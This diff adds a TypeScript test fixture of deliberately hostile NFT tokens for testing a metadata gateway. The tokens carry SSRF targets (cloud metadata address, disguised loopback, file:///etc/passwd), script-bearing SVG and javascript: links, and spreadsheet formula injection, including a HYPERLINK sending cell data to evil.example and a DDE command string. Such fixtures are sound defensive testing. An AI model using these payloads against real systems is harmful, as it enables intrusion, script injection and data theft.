@@ -1,0 +1,117 @@
+/** The CIDv1 under which the gateway tells the documents that mean harm. */
+export const hostileFolder = "bafybeiffrgp2jemtxekg7lowty2nhdujb2n7qwkvljobyvp2acq2ghe5fe";
+
+/** How a token of the hostile collection answers `tokenURI`; the position is the contract's number for it. */
+const answers = ["uri", "long", "revert", "endless", "noText"] as const;
+
+/** A token of the hostile collection. */
+export interface HostileToken {
+  /** What is wrong with it; "sheep" where nothing is. */
+  readonly kind: string;
+  readonly answer: (typeof answers)[number];
+  readonly uri: string;
+  /** Characters that are added to the URI as it is told. */
+  readonly length: number;
+}
+
+const json = (document: unknown): string => `data:application/json;base64,${Buffer.from(JSON.stringify(document)).toString("base64")}`;
+const plain = (text: string): string => `data:application/json,${encodeURIComponent(text)}`;
+const wolf = (kind: string, uri: string, answer: HostileToken["answer"] = "uri", length = 0): HostileToken => ({
+  kind,
+  answer,
+  uri,
+  length,
+});
+const gateway = (kind: string, path = kind): HostileToken => wolf(kind, `ipfs://${hostileFolder}/${path}`);
+
+const scriptedPicture =
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>';
+const page = "<!doctype html><html><body><script>alert(document.domain)</script></body></html>";
+
+const wolves: readonly HostileToken[] = [
+  gateway("huge"),
+  gateway("slow"),
+  gateway("redirect-to-loopback"),
+  gateway("redirect-to-link-local"),
+  gateway("redirect-loop"),
+  gateway("compressed-bomb"),
+  gateway("deeply-nested"),
+  gateway("many-attributes"),
+  gateway("page"),
+  gateway("broken"),
+  gateway("missing", "nowhere"),
+  gateway("path-out-of-the-folder", "../../private"),
+  wolf("link-local", "http://169.254.169.254/latest/meta-data/"),
+  wolf("loopback", "https://127.0.0.1/private.json"),
+  wolf("loopback-by-name", "https://localhost/private.json"),
+  wolf("loopback-as-number", "http://2130706433/private.json"),
+  wolf("loopback-in-ipv6", "http://[::ffff:127.0.0.1]/private.json"),
+  wolf("file", "file:///etc/passwd"),
+  wolf(
+    "script-in-picture",
+    json({ name: "Scripted", image: `data:image/svg+xml;base64,${Buffer.from(scriptedPicture).toString("base64")}` }),
+  ),
+  wolf("script-in-plain-picture", json({ name: "Scripted too", image: `data:image/svg+xml;utf8,${scriptedPicture}` })),
+  wolf(
+    "javascript-links",
+    json({
+      name: "Linked",
+      image: "javascript:alert(1)",
+      animation_url: " JaVaScRiPt:alert(2)",
+      external_url: "data:text/html,<script>alert(3)</script>",
+    }),
+  ),
+  wolf("page-as-document", `data:text/html,${encodeURIComponent(page)}`),
+  wolf(
+    "formula",
+    json({
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      description: "+1+1",
+      attributes: [
+        { trait_type: "=1+1", value: "@SUM(1+1)" },
+        { trait_type: "-2", value: "\t=cmd|' /C calc'!A0" },
+      ],
+    }),
+  ),
+  wolf(
+    "control-characters",
+    json({
+      name: "\u202egnp.tnecnni\u202c \u2066\u200b\u001b[31mred\u0007\u0000 end",
+      description: "a\u0000b",
+      attributes: [{ trait_type: "\u202eedis", value: "\u0000" }],
+    }),
+  ),
+  wolf("half-characters", plain('{"name":"\\ud800 alone","attributes":[{"trait_type":"\\udc00","value":"\\ud83d"}]}')),
+  wolf(
+    "absurd-attributes",
+    plain(
+      '{"name":"Absurd","attributes":[{"trait_type":"__proto__","value":"constructor"},{"trait_type":"Number","value":1e400},{"trait_type":"Number","value":123456789012345678901234567890},' +
+        '{"trait_type":"Date","display_type":"date","value":9e15},{"trait_type":"","value":""},{"trait_type":{"a":1},"value":[[]]},null,[],{"__proto__":{"polluted":true}}],"__proto__":{"polluted":true}}',
+    ),
+  ),
+  wolf("names-of-other-types", plain('{"name":{"toString":"x"},"description":[1],"image":7,"external_url":{},"animation_url":false}')),
+  wolf("invalid-base64", "data:application/json;base64,@@@not*base64@@@"),
+  wolf("invalid-utf8", `data:application/json;base64,${Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x7d]).toString("base64")}`),
+  wolf("cut-off", 'data:application/json,{"name":"Cut off'),
+  wolf("no-object", 'data:application/json,"just a text"'),
+  wolf("empty", ""),
+  wolf("long", "https://long.example/", "long", 100_000),
+  wolf("reverting", "", "revert"),
+  wolf("endless", "", "endless"),
+  wolf("no-text", "", "noText"),
+];
+
+const wolvesPerSheep = 3;
+
+const sheep = (number: number): HostileToken =>
+  wolf("sheep", json({ name: `Sheep ${number}`, attributes: [{ trait_type: "Wool", value: ["Thick", "Thin"][number % 2] }] }));
+
+/** The tokens of the hostile collection in the order of their ids, from 1 on: one that is served stands before, between and behind those that mean harm. */
+export const hostileTokens: readonly HostileToken[] = wolves.flatMap((token, index) => {
+  const number = Math.floor(index / wolvesPerSheep) + 1;
+  const before = index % wolvesPerSheep === 0 ? [sheep(number)] : [];
+  return index === wolves.length - 1 ? [...before, token, sheep(number + 1)] : [...before, token];
+});
+
+/** The contract's number for a kind of answer. */
+export const answerNumber = (answer: HostileToken["answer"]): number => answers.indexOf(answer);
